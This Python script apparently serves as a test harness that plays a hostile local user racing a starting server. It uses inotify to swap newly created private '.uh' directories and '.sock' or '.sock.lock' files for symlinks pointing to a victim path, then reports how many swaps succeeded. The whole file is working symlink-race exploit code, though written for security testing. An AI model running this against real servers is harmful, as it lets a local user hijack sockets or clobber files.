#!/usr/bin/env python3
"""A hostile local user racing a starting server. Watches DIR with inotify; for every entry the server creates
there it tries to redirect the server's next step to VICTIM: swaps a private '.*.uh*' directory for its own
(with a link where the socket will be bound), and replaces every '*.sock' file (and, with 'locks', every
'*.sock.lock' file) with a link. Prints READY once watching, then runs until stdin closes; prints the number of
swaps it managed at the end.

usage: attacker_inotify.py DIR VICTIM [locks]
"""
import ctypes
import os
import select
import struct
import sys

IN_CREATE = 0x100
IN_MOVED_TO = 0x80
EVENT = struct.Struct("iIII")

directory, victim = sys.argv[1:3]
attack_locks = sys.argv[3:4] == ["locks"]
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_NONBLOCK)
if fd < 0 or libc.inotify_add_watch(fd, directory.encode(), IN_CREATE | IN_MOVED_TO) < 0:
    print("inotify failed: errno %d" % ctypes.get_errno(), flush=True)
    sys.exit(1)
print("READY", flush=True)

swaps = 0
# Entries this script made itself: their creation events are not the server's doing.
mine = set()


def attempt(action, *args):
    global swaps
    try:
        action(*args)
        swaps += 1
    except OSError:
        pass


def swap_directory(path):
    os.rename(path, path + ".stolen")
    mine.add(path)
    os.mkdir(path)
    os.chmod(path, 0o777)
    os.symlink(victim, os.path.join(path, "s"))


def swap_file(path):
    os.rename(path, path + ".moved")
    mine.add(path)
    os.symlink(victim, path)


running = True
while running:
    ready, _, _ = select.select([fd, sys.stdin], [], [], 1.0)
    if sys.stdin in ready and not sys.stdin.readline():
        running = False
    if fd not in ready:
        continue
    try:
        data = os.read(fd, 65536)
    except BlockingIOError:
        continue
    offset = 0
    while offset < len(data):
        _, mask, _, length = EVENT.unpack_from(data, offset)
        name = data[offset + EVENT.size:offset + EVENT.size + length].rstrip(b"\0").decode(errors="replace")
        offset += EVENT.size + length
        path = os.path.join(directory, name)
        if path in mine:
            mine.discard(path)
            continue
        if name.startswith(".") and ".uh" in name and not name.endswith(".stolen"):
            attempt(swap_directory, path)
        elif name.endswith(".sock") or (attack_locks and name.endswith(".sock.lock")):
            attempt(swap_file, path)
print("SWAPS %d" % swaps, flush=True)
